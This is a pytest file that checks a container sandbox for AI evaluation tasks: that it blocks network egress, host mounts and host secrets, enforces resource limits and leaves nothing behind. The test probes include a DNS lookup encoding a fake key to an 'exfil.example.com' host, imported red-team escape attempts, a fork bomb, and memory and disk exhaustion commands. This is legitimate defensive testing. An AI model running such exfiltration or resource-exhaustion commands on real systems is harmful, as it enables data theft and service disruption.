"""The container sandbox: tasks that bring their own compose project or Dockerfile run in
their images, services and users, isolated (no egress, no host paths or environment, limits
from the suite), and leave nothing behind, whatever ends them."""

import asyncio
import contextlib
import os
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

from eval_pipelines.catalog.specs import SandboxSpec, SuiteSpec, TaskSpec
from eval_pipelines.containers import ComposeError, ContainerConfig, load_project
from eval_pipelines.containers._environment import ContainerSandboxEnvironment
from eval_pipelines.core import events
from eval_pipelines.engine.bridge import SandboxUnavailableError, check_isolation, load_task
from eval_pipelines.scripted._policies import RED_TEAM_ATTEMPTS
from resources.sandbox import SandboxBackend
from tests.conftest import events_of as of
from tests.container_support import leftovers, require_container_engine

pytestmark = pytest.mark.xdist_group("containers")
TASKS = Path(__file__).parent / "data" / "tasks"
ISOLATION = TASKS / "isolation" / "compose.yaml"


def compose(tmp_path: Path, body: str) -> Path:
    path = tmp_path / "compose.yaml"
    path.write_text(textwrap.dedent(body))
    return path


@pytest.mark.parametrize(
    "service, refused",
    [
        ("    image: x\n    links: [db]\n", "compose key `links` is not supported"),
        ("    image: x\n    privileged: true\n", "`privileged` is refused"),
        ("    image: x\n    volumes: ['/etc:/host-etc']\n", "a host path is never mounted"),
        ("    image: x\n    volumes: ['../outside:/x']\n", "must exist inside the compose"),
        ("    image: x\n    network_mode: host\n", "network_mode 'host' is refused"),
        ("    image: x\n    healthcheck: {test: true, every: 1s}\n", "`every` is not supported"),
    ],
)
def test_a_compose_key_it_does_not_carry_out_is_refused_naming_key_and_file(
    tmp_path: Path, service: str, refused: str
):
    path = compose(tmp_path, f"services:\n  default:\n{service}")
    with pytest.raises(ComposeError) as error:
        load_project(path)
    assert str(error.value).startswith(f"{path}: ")
    assert refused in str(error.value)


def test_the_keys_third_party_compose_files_use_are_read():
    project = load_project(ISOLATION)
    default, peer = project.services
    assert (default.name, peer.name) == ("default", "peer")
    assert default.memory_bytes == 4 << 30 and default.environment == {"CHALLENGE": "one"}
    assert default.volumes == {"scratch": "/scratch"}
    assert default.copies == ((ISOLATION.parent / "motd.txt", "/etc/motd.txt"),)
    assert peer.stop_grace_seconds == 1.0 and project.volumes == ("scratch",)


def test_an_included_compose_file_brings_its_services_read_from_its_own_folder(tmp_path: Path):
    """Compose's `include`: the included file's services and volumes join the project, and
    its relative paths (a build context, a copied file) are its own folder's."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "Dockerfile").write_text("FROM eval-base:bookworm\n")
    (victim / "banner.txt").write_text("hi\n")
    (victim / "compose.yaml").write_text(
        "services:\n  victim:\n    build: .\n    volumes: ['./banner.txt:/banner.txt', 'data:/d']\n"
        "volumes:\n  data:\n"
    )
    path = compose(
        tmp_path,
        """
        include:
          - victim/compose.yaml
        services:
          default:
            image: eval-base:bookworm
            depends_on: [victim]
            volumes: ['data:/shared']
        """,
    )
    project = load_project(path)
    default, included = project.services
    assert (default.name, included.name) == ("default", "victim")
    assert included.build is not None and included.build.context == victim
    assert included.copies == ((victim / "banner.txt", "/banner.txt"),)
    assert project.volumes == ("data",)
    # A service defined twice, or an include cycle, is refused naming both files.
    (victim / "compose.yaml").write_text("services:\n  default:\n    image: x\n")
    with pytest.raises(ComposeError, match="'default' is defined by both"):
        load_project(path)
    (victim / "compose.yaml").write_text("include: [../compose.yaml]\nservices: {}\n")
    with pytest.raises(ComposeError, match="which includes it back"):
        load_project(path)


@pytest.fixture(scope="module")
def engine():
    require_container_engine()
    yield
    assert leftovers() == []


def run(coroutine):
    return asyncio.run(coroutine)


async def _in_sample(config: ContainerConfig, body):
    environments = await ContainerSandboxEnvironment.sample_init("t", config, {})
    try:
        return await body(environments)
    finally:
        await ContainerSandboxEnvironment.sample_cleanup("t", config, environments, False)


def test_a_sample_s_services_share_only_their_private_network(engine, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-host-secret")
    listener = socket.socket()
    listener.bind(("0.0.0.0", 0))
    listener.listen()
    port = listener.getsockname()[1]
    threading.Thread(target=lambda: listener.accept(), daemon=True).start()
    config = ContainerConfig(file=str(ISOLATION), limits=SandboxSpec(memory_mb=256, pids=64))

    async def body(environments):
        default = environments["default"]
        probe = (
            "import socket, sys\n"
            "def reach(host, port):\n"
            "    try:\n"
            "        socket.create_connection((host, port), timeout=3).close(); return 'open'\n"
            "    except OSError:\n"
            "        return 'blocked'\n"
            "print(reach('peer', 8000), reach(sys.argv[1], int(sys.argv[2])), "
            "reach('1.1.1.1', 53))\n"
        )
        gateway = (await default.exec(["sh", "-c", "ip route | awk '/src/ {print $NF}'"])).stdout
        host = gateway.strip().rsplit(".", 1)[0] + ".1"
        return {
            "reach": (await default.exec(["python3", "-c", probe, host, str(port)])).stdout,
            "env": (await default.exec(["env"])).stdout,
            "memory": (
                await default.exec(["cat", "/sys/fs/cgroup/memory/memory.limit_in_bytes"])
            ).stdout,
            "pids": (await default.exec(["cat", "/sys/fs/cgroup/pids/pids.max"])).stdout,
            "socket": (await default.exec(["test", "-e", "/var/run/docker.sock"])).returncode,
            "motd": await default.read_file("/etc/motd.txt"),
            "order": list(environments),
        }

    seen = run(_in_sample(config, body))
    listener.close()
    # The peer by name; not the host (the network's gateway address), not the internet.
    assert seen["reach"].split() == ["open", "blocked", "blocked"]
    assert "CHALLENGE=one" in seen["env"] and "sk-host-secret" not in seen["env"]
    # The suite's 256 MB caps the compose file's 4g; its pids limit applies.
    assert int(seen["memory"]) == 256 << 20 and seen["pids"].strip() == "64"
    assert seen["socket"] != 0
    assert seen["motd"] == "copied into the container, never mounted\n"
    assert seen["order"] == ["default", "peer"]


def test_the_monitor_sees_a_container_s_calls_as_it_sees_bwrap_s(engine, bus):
    """The bwrap watch's promises, in a container sample: the red-team's hidden attempts, an
    outside name looked up (the engine's resolver forwards it from inside the sample) and a
    peer's own attempt are reported with their destination and fail at once; the private
    network is the task's, not an attempt; memory and fork bombs and a disk fill are limit
    hits noted in the call's output; counters are sampled at 10 Hz or more."""
    config = ContainerConfig(
        file=str(ISOLATION), limits=SandboxSpec(memory_mb=128, pids=48, disk_mb=16)
    )
    hidden = [command for name, command in RED_TEAM_ATTEMPTS if name.startswith("hidden-")]

    async def body(environments):
        default, peer = environments["default"], environments["peer"]
        started = time.monotonic()
        outputs = [await default.exec(["sh", "-c", command]) for command in hidden]
        lookup = await default.exec(["getent", "hosts", "k3y-5ecret.exfil.example.com"])
        seconds = time.monotonic() - started
        private = await default.exec(
            ["python3", "-c", "import socket; socket.create_connection(('peer', 8000)).close()"]
        )
        await peer.exec(
            ["python3", "-c", "import socket; socket.socket().connect(('192.0.2.5', 22))"]
        )
        idle = await default.exec(["sleep", "2"])
        memory = await default.exec(["sh", "-c", "head -c 400M /dev/zero | tail | wc -c"])
        disk = await default.exec(["sh", "-c", "head -c 200M /dev/zero > /tmp/fill; ls -l /tmp"])
        fork = await default.exec(["sh", "-c", "for i in $(seq 80); do sleep 3 & done; wait"])
        return outputs, lookup, seconds, private, idle, memory, disk, fork

    outputs, lookup, seconds, private, idle, memory, disk, fork = run(_in_sample(config, body))
    attempts = of(bus, "network_attempt")
    for expected in (
        {"destination": "203.0.113.9", "port": 443, "protocol": "tcp", "source": "default"},
        {"destination": "198.51.100.7", "port": 8443, "protocol": "tcp", "source": "default"},
        {"destination": "192.0.2.5", "port": 22, "protocol": "tcp", "source": "peer"},
    ):
        assert expected in attempts, attempts
    assert "No route to host" in outputs[-1].stderr
    assert lookup.returncode == 2
    assert any(a.get("query") == "k3y-5ecret.exfil.example.com" for a in attempts), attempts
    assert seconds < 20, "each attempt refused at once, not left to time out"
    # The peer is reached on the private network, and that is not an attempt.
    assert private.success and len(attempts) == 4, attempts
    peaks = [d for d in of(bus, "counters") if d.get("peak")]
    assert idle.success and any(
        p["seconds"] >= 2 and p["samples"] >= 10 * p["seconds"] for p in peaks
    ), peaks
    hits = of(bus, "limit_hit")
    assert {"limit": "memory", "limit_bytes": 128 << 20} in hits
    assert "[sandbox] memory limit (128 MB) reached: process killed" in memory.stderr
    # The quota is what the container writes: disk_mb (less a little metadata), not 200 MB.
    written = int(disk.stdout.split()[-5])
    assert 14 << 20 <= written <= 16 << 20, disk.stdout
    assert {"limit": "disk", "limit_bytes": 16 << 20} in hits
    assert "[sandbox] disk limit (16 MB) reached: write refused" in disk.stderr
    assert {"limit": "pids", "max_pids": 48} in hits
    assert "[sandbox] process limit (48) reached: fork refused" in fork.stderr
    assert all(e.sandbox.startswith("eval-") for e in bus)


def test_an_engine_that_cannot_cap_disk_is_refused_with_the_fix(engine):
    from eval_pipelines.containers._engine import client, disk_quota_problem

    overlay_on_ext4 = {"Driver": "overlay2", "DriverStatus": [["Backing Filesystem", "extfs"]]}
    problem = disk_quota_problem(overlay_on_ext4)
    assert problem is not None
    assert "overlay2 on extfs" in problem and "cannot cap a container's disk" in problem
    assert "scripts/docker_engine.sh" in problem
    # The project's own engine keeps its data on btrfs with quotas: it can.
    with contextlib.closing(client()) as running:
        assert disk_quota_problem(running.info()) is None


class Stop(Exception):
    """What the monitor raises to stop a sample (TerminateSampleError in real runs)."""


def test_a_monitor_stop_kills_the_container_call_and_what_it_started(engine):
    config = ContainerConfig(file=str(ISOLATION), limits=SandboxSpec(timeout_seconds=60))

    def stop(event: events.SandboxEvent) -> None:
        if event.kind == "network_attempt":
            raise Stop()

    async def body(environments):
        default = environments["default"]
        unsubscribe = events.subscribe(stop)
        started = time.monotonic()
        try:
            with pytest.raises(Stop):
                await default.exec(
                    ["sh", "-c", "sleep 50 & sleep 51 & getent hosts a.example.net; sleep 52"]
                )
        finally:
            unsubscribe()
        seconds = time.monotonic() - started
        left = await default.exec(["sh", "-c", "ps -eo comm | grep -c sleep"])
        return seconds, left.stdout.strip()

    seconds, sleeping = run(_in_sample(config, body))
    assert seconds < 10 and sleeping == "0"


def test_exec_keeps_inspect_s_contract(engine):
    config = ContainerConfig(
        file=str(ISOLATION), limits=SandboxSpec(timeout_seconds=2, output_kb=64)
    )

    async def body(environments):
        default = environments["default"]
        await default.write_file("notes/a.txt", "hello")
        results = {
            "relative": await default.read_file("/home/notes/a.txt"),
            "cwd": (await default.exec(["pwd"], cwd="notes")).stdout.strip(),
            "env": (await default.exec(["sh", "-c", "echo $X"], env={"X": "42"})).stdout.strip(),
            "input": (await default.exec(["cat"], input="piped")).stdout,
            "user": (await default.exec(["id", "-un"], user="nobody")).stdout.strip(),
            "exit": (await default.exec(["sh", "-c", "exit 3"])).returncode,
        }
        with pytest.raises(TimeoutError):
            await default.exec(["sleep", "30"], timeout=1)
        with pytest.raises(Exception, match="exceeded|limit"):
            await default.exec(["sh", "-c", "yes | head -c 1000000"])
        with pytest.raises(FileNotFoundError):
            await default.read_file("/nope")
        # A sleep the timeout killed is gone, not left running in the container.
        results["sleeping"] = (
            await default.exec(["sh", "-c", "ps -eo comm | grep -c sleep"])
        ).stdout
        return results

    seen = run(_in_sample(config, body))
    assert seen["relative"] == "hello" and seen["cwd"] == "/home/notes"
    assert (seen["env"], seen["input"], seen["user"], seen["exit"]) == ("42", "piped", "nobody", 3)
    assert seen["sleeping"].strip() == "0"


def test_a_killed_owner_leaves_nothing_behind_once_reaped(engine, tmp_path: Path):
    script = textwrap.dedent(
        f"""
        import asyncio, sys, time
        from eval_pipelines.containers import ContainerConfig
        from eval_pipelines.containers._environment import ContainerSandboxEnvironment
        config = ContainerConfig(file={str(ISOLATION)!r})
        asyncio.run(ContainerSandboxEnvironment.sample_init("t", config, {{}}))
        print("ready", flush=True)
        time.sleep(600)
        """
    )
    owner = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    try:
        assert owner.stdout.readline().strip() == "ready"
        assert len([x for x in leftovers() if x.startswith("container")]) == 2
    finally:
        os.kill(owner.pid, signal.SIGKILL)
        owner.wait()
    from eval_pipelines.containers._engine import client, reap

    engine_client = client()
    try:
        assert reap(engine_client) == 4  # two containers, the network, the volume
    finally:
        engine_client.close()
    assert leftovers() == []


def test_a_missing_image_is_named_with_how_to_provide_it(engine):
    spec = TaskSpec(name="t", task="two_service_ctf/task.py@two_service_ctf", sandbox=True)
    suite = SuiteSpec(name="s", version="1", tasks=[spec], source_dir=TASKS)
    with pytest.raises(SandboxUnavailableError) as refused:
        check_isolation(suite, spec, load_task(suite, spec), SandboxBackend())
    assert "ctf-agent:1.0 (service 'default')" in str(refused.value)
    assert "docker load -i FILE" in str(refused.value)


def test_the_ctf_suite_scores_what_the_model_did(engine, defs, instance):
    from eval_pipelines.core.partitions import partition_key

    job = defs.resolve_job_def("evaluate")
    scores = {}
    for model in ("reference", "idle"):
        instance.add_dynamic_partitions("models", [model])
        result = job.execute_in_process(
            instance=instance, partition_key=partition_key(model, "ctf"), raise_on_error=False
        )
        assert result.success
        tasks = result.output_for_node("evaluation", "task_scores")["tasks"]
        scores[model] = {t["task"]: t["mean"] for t in tasks}
        assert all(t["sandbox"].startswith("container (runc): ") for t in tasks)
        images = {t["task"]: t["images"] for t in tasks}
        assert list(images["private-service"]) == [
            "private_service/default",
            "private_service/victim",
        ]
        assert images["setuid"]["setuid_find/default"].split()[1].startswith("sha256:")
        assert leftovers() == []
    assert scores == {
        "reference": {"private-service": 1.0, "setuid": 1.0, "files": 1.0},
        "idle": {"private-service": 0.0, "setuid": 0.0, "files": 0.0},
    }


def test_a_task_on_inspect_s_default_image_names_what_is_missing(engine):
    spec = TaskSpec(name="t", task="default_image/task.py@default_image", sandbox=True)
    suite = SuiteSpec(name="s", version="1", tasks=[spec], source_dir=TASKS)
    with pytest.raises(SandboxUnavailableError, match="names no compose file or Dockerfile"):
        check_isolation(suite, spec, load_task(suite, spec), SandboxBackend())


def test_a_stopped_sample_leaves_no_container_behind(engine, tmp_path: Path):
    """A stop cancels Inspect's work (`eval_pipelines.execution.stopping`): the sample's
    containers, mid-call, are gone within seconds, the call's process with them."""
    from eval_pipelines.catalog.specs import ModelSpec, UsageLimits
    from eval_pipelines.engine.bridge import resolve_model, run_sandbox, run_task

    spec = TaskSpec(name="t", task="long_exec/task.py@long_exec", sandbox={"timeout_seconds": 900})
    suite = SuiteSpec(name="s", version="1", tasks=[spec], source_dir=TASKS)
    task = load_task(suite, spec)
    backend = SandboxBackend()
    check_isolation(suite, spec, task, backend)

    async def stop_mid_call() -> float:
        work = asyncio.ensure_future(
            run_task(
                task,
                resolve_model(ModelSpec(id="idle", model="scripted/idle")),
                spec,
                UsageLimits(),
                tmp_path,
                sandbox=run_sandbox(task, spec, backend),
            )
        )
        for _ in range(600):
            if any("sleep 600" in p for p in _processes()):
                break
            await asyncio.sleep(0.1)
        else:
            raise AssertionError(f"the call never started: {leftovers()}")
        stopped = time.monotonic()
        work.cancel()
        # Inspect ends a cancelled eval without a log: the bridge says so.
        with contextlib.suppress(asyncio.CancelledError, RuntimeError):
            await work
        return time.monotonic() - stopped

    elapsed = run(stop_mid_call())
    assert leftovers() == [] and not any("sleep 600" in p for p in _processes())
    assert elapsed < 15, elapsed


def _processes() -> list[str]:
    return subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout.splitlines()


def test_the_engine_keeps_nothing_of_the_environment_it_was_started_from(engine):
    """The tests start the engine with a session TMPDIR that is removed at the end (which
    broke every later gVisor container), and a user's shell may hold API keys."""
    pid = subprocess.run(["pgrep", "-xo", "dockerd"], capture_output=True, text=True).stdout
    environ = Path(f"/proc/{pid.strip()}/environ").read_bytes().split(b"\0")
    names = {item.split(b"=", 1)[0].decode() for item in environ if item}
    assert "TMPDIR" not in names
    assert not [n for n in names if any(s in n for s in ("API_KEY", "SECRET", "TOKEN"))]
